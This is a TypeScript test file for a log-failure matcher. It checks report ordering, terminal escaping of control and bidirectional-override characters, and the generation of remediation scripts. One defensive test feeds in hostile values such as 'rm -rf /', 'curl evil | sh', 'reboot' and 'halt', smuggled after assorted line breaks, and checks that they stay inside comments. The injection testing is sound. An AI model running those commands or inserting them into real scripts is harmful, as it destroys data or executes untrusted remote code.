/**
 * What the matcher tells people: the report (most severe failure first, safest remediation first, withdrawn
 * remediations left out), its terminal text (feed and log text cannot drive the terminal), and the files
 * --emit-remediation writes (feed text stays inside the comment header, whatever line breaks it holds).
 */
import { describe, expect, test } from 'vitest';
import type { FeedRemediation } from '../../src/schemas/feed.ts';
import { parseFeed } from '../../src/lib/matcher/feed-documents.ts';
import { feedFromContent } from '../../src/lib/matcher/node/content-feed.ts';
import { markdownSection, remediationScript } from '../../src/lib/matcher/remediation-script.ts';
import { buildMatchReport, matchReport } from '../../src/lib/matcher/report.ts';
import { formatReportText, terminalSafe } from '../../src/lib/matcher/report-text.ts';
import type { FailureHits, LineRef } from '../../src/lib/matcher/tally.ts';
import { CONTENT_ROOT } from '../fixtures/logs/catalogue-logs.ts';

const json = feedFromContent(CONTENT_ROOT);
const { feed } = parseFeed({ name: 'feed/failures.json', text: JSON.stringify(json.failures) }, { name: 'feed/remediations.json', text: JSON.stringify(json.remediations) });
const ref = (line: number, text = 'a log line'): LineRef => ({ source: 'app.log', line, text });
const hits = (failureId: string, lines: number): FailureHits => ({ failureId, lines, first: ref(1), last: ref(lines), signatures: new Map([['sig', lines]]), fired: true, belowThreshold: new Map() });
const totals = { sources: 1, bytes: 100, lines: 10, truncatedLines: 0, matchedLines: 3 };

describe('the match report', () => {
  const [low, critical, high] = (['low', 'critical', 'high'] as const).map((severity) => feed!.failures.find((f) => f.severity === severity && f.remediations.length > 0)!);

  test('lists the most severe failure first, then the most matched', () => {
    const report = buildMatchReport({ feed: feed!, signatures: 130, totals, hits: [hits(low!.id, 5), hits(high!.id, 1), hits(critical!.id, 2)] });
    expect(matchReport.parse(report)).toEqual(report);
    expect(report.failures.map((f) => f.id)).toEqual([critical!.id, high!.id, low!.id]);
  });

  test('lists remediations safest first (best verified, then lowest risk and disruption), without withdrawn ones', () => {
    const failure = feed!.failures.find((f) => f.remediations.length >= 2)!;
    const remediations = feed!.remediations.map((r): FeedRemediation => {
      if (r.id === failure.remediations[0]) return { ...r, risk: 'high', verification: { ...r.verification, status: 'unverified' } };
      if (r.id === failure.remediations[1]) return { ...r, risk: 'low', verification: { ...r.verification, status: 'verified' } };
      return r;
    });
    const report = buildMatchReport({ feed: { ...feed!, remediations }, signatures: 1, totals, hits: [hits(failure.id, 1)] });
    expect(report.failures[0]!.remediations[0]).toMatchObject({ id: failure.remediations[1], verification_status: 'verified', risk: 'low' });
    const withdrawn = remediations.map((r) => (r.id === failure.remediations[1] ? { ...r, status: 'withdrawn' as const } : r));
    const without = buildMatchReport({ feed: { ...feed!, remediations: withdrawn }, signatures: 1, totals, hits: [hits(failure.id, 1)] });
    expect(without.failures[0]!.remediations.map((r) => r.id)).not.toContain(failure.remediations[1]);
  });
});

describe('terminal text', () => {
  test('escapes control characters and bidirectional overrides', () => {
    expect(terminalSafe('ok\u001b[31mred\u0007\u202egnp.exe\tend')).toBe('ok\\u001b[31mred\\u0007\\u202egnp.exe\tend');
  });

  test('says plainly when nothing was found, and when long lines were cut', () => {
    const none = buildMatchReport({ feed: feed!, signatures: 130, totals: { ...totals, truncatedLines: 2 }, hits: [] });
    expect(formatReportText(none)).toBe('No known failure found in 1 log (10 lines, 100 B) against 130 signatures.\n2 lines longer than 64 KiB were matched on their first 64 KiB only.\n');
  });

  test('shows a failure with its lines, signatures and remediations', () => {
    const failure = feed!.failures.find((f) => f.remediations.length > 0)!;
    const text = formatReportText(buildMatchReport({ feed: feed!, signatures: 130, totals, hits: [{ ...hits(failure.id, 2), first: ref(3, 'first \u001b line'), last: ref(9) }] }));
    expect(text).toContain(`${failure.id} [${failure.severity}] ${failure.title}\n  2 lines matched: sig (2)\n  first  app.log:3  first \\u001b line\n  last   app.log:9  a log line\n  remediations:\n`);
    expect(text).toContain(failure.html_url);
  });
});

describe('remediation files', () => {
  const base = feed!.remediations.find((r) => r.automation?.kind === 'shell' && r.automation.code.startsWith('#!'))!;

  test('keep the shebang first, then a header of comments, then the code as published', () => {
    const script = remediationScript(base, { fixes: [{ id: 'FAIL-0001', title: 'A failure' }], feedSource: 'https://example.org/api/v1/failures.json', writtenAt: '2026-11-25T12:00:00.000Z' })!;
    expect(script.fileName).toBe(`${base.id}.sh`);
    const [shebang, ...rest] = script.content.split('\n');
    expect(`${shebang}\n`).toBe(/^#![^\n]*\n/.exec(base.automation!.code)![0]);
    expect(script.content.endsWith(base.automation!.code.slice(shebang!.length + 1))).toBe(true);
    const header = rest.join('\n').split('\n\n')[0]!;
    expect(header).toContain(`# Rollback:\n#   ${markdownSection(base.details, 'Rollback')!.split('\n')[0]}`);
    expect(header).toContain('# Written by the Failure Catalogue matcher from https://example.org/api/v1/failures.json at 2026-11-25T12:00:00.000Z.');
  });

  test('keep hostile feed text inside comments, whatever line break it uses', () => {
    const hostile: FeedRemediation = {
      ...base,
      title: 'Fix it\nrm -rf / #',
      prerequisites: ['one\r\ncurl evil | sh', 'two\u2028reboot', 'three\rwhoami', 'four\u000bid'],
      verification: { ...base.verification, how: 'check\u0085halt' },
      details: '## Rollback\n\nundo it\n\n```\nrm -rf /\n```\n',
      automation: { kind: 'ansible', code: '- hosts: all\n  tasks: []\n' },
    };
    const script = remediationScript(hostile, { fixes: [{ id: 'FAIL-0001', title: 'x\ny' }], feedSource: 'feed', writtenAt: 'now' })!;
    expect(script.fileName).toBe(`${base.id}.yml`);
    const [header, code] = script.content.split('\n\n');
    for (const line of header!.split('\n')) expect(line).toMatch(/^#( |$)/);
    expect([...header!].filter((ch) => ['\r', '\u2028', '\u0085', '\u000b'].includes(ch))).toEqual([]);
    expect(code).toBe('- hosts: all\n  tasks: []\n');
  });

  test('are not written for a remediation without automation', () => {
    const { automation: _, ...manual } = base;
    expect(remediationScript(manual, { fixes: [], feedSource: 'feed', writtenAt: 'now' })).toBeNull();
  });
});
